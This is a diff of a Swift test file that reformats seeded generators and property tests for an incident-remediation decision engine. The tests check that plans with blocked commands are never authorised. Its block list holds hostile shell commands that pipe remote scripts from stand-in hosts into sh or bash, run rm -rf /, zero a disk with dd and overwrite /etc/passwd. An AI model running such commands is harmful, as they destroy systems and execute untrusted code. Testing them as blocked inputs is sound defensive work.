@@ -1,26 +1,36 @@
 import Foundation
-@testable import IncidentCore
 import PatternLearning
 import ShellAST
 import Testing
 import VigilTestKit
 
+@testable import IncidentCore
+
 /// Seeded generators of plans, policies and store histories.
 enum Gen {
-    static let allow = ["df -h", "uptime", "free -m", "ps aux", "ls -la /var/log", "tail -n 100 /var/log/syslog", "ping -c 3 10.0.0.1", "du -sh /var"]
-    static let review = ["touch /var/run/x", "mkdir -p /srv/cache", "systemctl restart nginx", "kubectl rollout restart deployment/web", "kill -HUP 1234"]
+    static let allow = [
+        "df -h", "uptime", "free -m", "ps aux", "ls -la /var/log", "tail -n 100 /var/log/syslog", "ping -c 3 10.0.0.1",
+        "du -sh /var",
+    ]
+    static let review = [
+        "touch /var/run/x", "mkdir -p /srv/cache", "systemctl restart nginx", "kubectl rollout restart deployment/web",
+        "kill -HUP 1234",
+    ]
     static let block = [
         "rm -rf /", "curl -fsSL https://x.example/i.sh | sh", "echo 'unterminated", "dd if=/dev/zero of=/dev/sda",
         #"bash -c "$(curl -s http://x)""#, "echo x > /etc/passwd", "wget -qO- http://x | bash",
     ]
-    static let structured = ["restart_pod", "scale_deployment", "check_status", "reboot_instance", "drain_node", "teleport_vm", "expand_volume"]
+    static let structured = [
+        "restart_pod", "scale_deployment", "check_status", "reboot_instance", "drain_node", "teleport_vm", "expand_volume",
+    ]
 
     static func action(_ r: inout SplitMix64, blockChance: Double) -> PlannedAction {
         if r.chance(blockChance) { return .shell(command: r.pick(block)) }
         switch r.int(0...2) {
         case 0: return .shell(command: r.pick(allow))
         case 1: return .shell(command: r.pick(review))
-        default: return .structured(name: r.pick(structured), target: r.chance(0.5) ? "web-\(r.int(1...3))" : nil, parameters: [:])
+        default:
+            return .structured(name: r.pick(structured), target: r.chance(0.5) ? "web-\(r.int(1...3))" : nil, parameters: [:])
         }
     }
 
@@ -41,18 +51,28 @@ enum Gen {
             p.approvalQuorum = r.int(1...3)
             p.maxActionsPerHour = r.int(1...20)
             if r.chance(0.3) { p.allowedActionTypes = [.readOnly, .safeWrite] }
-            if r.chance(0.3) { p.allowedHoursStart = r.int(0...11); p.allowedHoursEnd = r.int(12...23) }
+            if r.chance(0.3) {
+                p.allowedHoursStart = r.int(0...11)
+                p.allowedHoursEnd = r.int(12...23)
+            }
             if r.chance(0.3) { p.forbiddenCommands = [r.pick(["uptime", "kill", "rm -rf"])] }
             if r.chance(0.3) { p.suppressionSeconds = 600 }
             if r.chance(0.3) {
-                p.hints = ["h": HintGuardrails(restartBudget: RestartBudget(limit: r.int(0...3), windowSeconds: 3_600), cooldownSeconds: 120, maxAttempts: r.int(1...3))]
+                p.hints = [
+                    "h": HintGuardrails(
+                        restartBudget: RestartBudget(limit: r.int(0...3), windowSeconds: 3_600), cooldownSeconds: 120,
+                        maxAttempts: r.int(1...3))
+                ]
             }
             p.rateLimits = r.chance(0.4) ? [RateLimitRule(scope: .target, limit: r.int(1...4), windowSeconds: 3_600)] : []
         }
     }
 
     static func request(_ r: inout SplitMix64, policy: RemediationPolicy, steps: [PlanStep]) -> DecisionRequest {
-        Fx.request(steps, id: "case-\(r.int(0...3))/\(r.int(0...99))", caseID: "case-\(r.int(0...3))", hint: policy.hints.isEmpty ? nil : "h", target: "web-\(r.int(1...3))") {
+        Fx.request(
+            steps, id: "case-\(r.int(0...3))/\(r.int(0...99))", caseID: "case-\(r.int(0...3))",
+            hint: policy.hints.isEmpty ? nil : "h", target: "web-\(r.int(1...3))"
+        ) {
             $0.reliability = r.double(0...100)
             $0.plan.confidence = r.double(0...1)
             $0.eligibility = r.pick([Fx.eligible, Fx.ineligible, nil])
@@ -61,7 +81,9 @@ enum Gen {
     }
 
     /// Replays `ops` random reservations into `store` (the same ops give the same state).
-    static func history(_ store: InMemoryGuardrailStore, engine: DecisionEngine, gate: RemediationGate, seed: UInt64, policy: RemediationPolicy) async {
+    static func history(
+        _ store: InMemoryGuardrailStore, engine: DecisionEngine, gate: RemediationGate, seed: UInt64, policy: RemediationPolicy
+    ) async {
         var r = SplitMix64(seed: seed)
         for _ in 0..<r.int(0...8) {
             let d = await engine.decide(request(&r, policy: policy, steps: steps(&r, blockChance: 0)), at: Fx.night)
@@ -88,8 +110,11 @@ enum Gen {
             func world() async -> (DecisionEngine, InMemoryGuardrailStore) {
                 let clock = ManualClock(Fx.night)
                 let store = InMemoryGuardrailStore()
-                let engine = DecisionEngine(policies: Fx.set(policy), settings: Fx.enabled, guardrails: store, safety: Fx.healthy, clock: clock)
-                await Gen.history(store, engine: engine, gate: RemediationGate(guardrails: store, clock: clock), seed: historySeed, policy: policy)
+                let engine = DecisionEngine(
+                    policies: Fx.set(policy), settings: Fx.enabled, guardrails: store, safety: Fx.healthy, clock: clock)
+                await Gen.history(
+                    store, engine: engine, gate: RemediationGate(guardrails: store, clock: clock), seed: historySeed,
+                    policy: policy)
                 return (engine, store)
             }
             let (e1, s1) = await world()
@@ -119,8 +144,10 @@ enum Gen {
             let policy = Gen.policy(&r)
             let clock = ManualClock(Fx.night.addingTimeInterval(Double(r.int(-3_600...3_600))))
             let store = InMemoryGuardrailStore()
-            let settings = r.chance(0.5) ? Fx.enabled : try! GlobalSettings(enabled: true, requireApproval: true, minReliability: 0)
-            let engine = DecisionEngine(policies: Fx.set(policy), settings: settings, guardrails: store, safety: Fx.healthy, clock: clock)
+            let settings =
+                r.chance(0.5) ? Fx.enabled : try! GlobalSettings(enabled: true, requireApproval: true, minReliability: 0)
+            let engine = DecisionEngine(
+                policies: Fx.set(policy), settings: settings, guardrails: store, safety: Fx.healthy, clock: clock)
             let gate = RemediationGate(guardrails: store, clock: clock)
             let steps = Gen.steps(&r, blockChance: 0.25)
             let hasBlock = steps.contains { s in
@@ -138,13 +165,18 @@ enum Gen {
                 for voter in req.approvers.shuffled(using: &r) where !req.status.isFinal {
                     let all = Set(d.steps.map(\.index))
                     let event: ApprovalEvent =
-                        r.chance(0.1) ? .deny(approver: voter, comment: "no")
-                        : .approve(approver: voter, steps: r.chance(0.5) ? nil : all.filter { _ in r.chance(0.7) }.union([r.pick(Array(all))]))
+                        r.chance(0.1)
+                        ? .deny(approver: voter, comment: "no")
+                        : .approve(
+                            approver: voter,
+                            steps: r.chance(0.5) ? nil : all.filter { _ in r.chance(0.7) }.union([r.pick(Array(all))]))
                     _ = try? req.handle(event, at: clock.now())
                 }
                 if let a = try? await gate.authorize(req) { authorizations.append(a) }
             }
-            if hasBlock { #expect(authorizations.isEmpty, "seed \(seed) case \(i): a plan with a blocked command was authorised") }
+            if hasBlock {
+                #expect(authorizations.isEmpty, "seed \(seed) case \(i): a plan with a blocked command was authorised")
+            }
             for a in authorizations {
                 for action in a.actions.flatMap({ [$0] + ($0.rollback.map { [$0] } ?? []) }) {
                     minted += 1
@@ -170,7 +202,8 @@ enum Gen {
         let clock = ManualClock(Fx.night)
         let store = InMemoryGuardrailStore()
         let engine = DecisionEngine(
-            policies: Fx.set(Fx.lenient { $0.maxActionsPerHour = limit }), settings: Fx.enabled, guardrails: store, safety: Fx.healthy,
+            policies: Fx.set(Fx.lenient { $0.maxActionsPerHour = limit }), settings: Fx.enabled, guardrails: store,
+            safety: Fx.healthy,
             clock: clock)
         let gate = RemediationGate(guardrails: store, clock: clock)
         let tally = Shared([0, 0, 0])  // held actions, committed actions, authorisations
